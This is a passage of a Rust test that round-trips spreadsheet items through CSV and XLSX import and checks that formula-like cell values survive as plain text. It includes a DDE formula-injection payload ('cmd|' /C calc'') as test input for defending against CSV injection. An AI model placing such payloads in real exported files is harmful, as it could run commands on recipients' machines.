    let from_xlsx = import_into_copy(&root, &tmp, "import-formulas-xlsx", "dongcun", &out.join("data/dongcun.xlsx"));
    let (from_csv, from_xlsx) = (from_csv.list("dongcun").unwrap(), from_xlsx.list("dongcun").unwrap());
    assert_same_items("csv and xlsx", from_xlsx, from_csv);
    assert_eq!(from_csv.items.len(), original.items.len());
    for (a, b) in original.items.iter().zip(&from_csv.items) {
        for f in Field::ALL {
            assert_eq!(b.text(*f), a.text(*f).trim(), "{} {}", a.code.value, f.label());
        }
    }
    let item = from_csv.items.iter().find(|i| i.code.value == "DC-QT-099").unwrap();
    assert_eq!(item.name, name);
    assert_eq!(item.number.as_deref(), Some("-1"));
    assert_eq!(item.subject.as_deref(), Some("=1-1"));
    assert_eq!(item.sub_items, ["+1+1", "@SUM(1+1)*cmd|' /C calc'!A0"]);
    assert_eq!(item.basis.text, "=1+1 以制表符开头的依据");
    assert_eq!(item.extra.iter().find(|(k, _)| k == "原表说明").map(|(_, v)| v.as_str()), Some("'=已有单引号"));
}
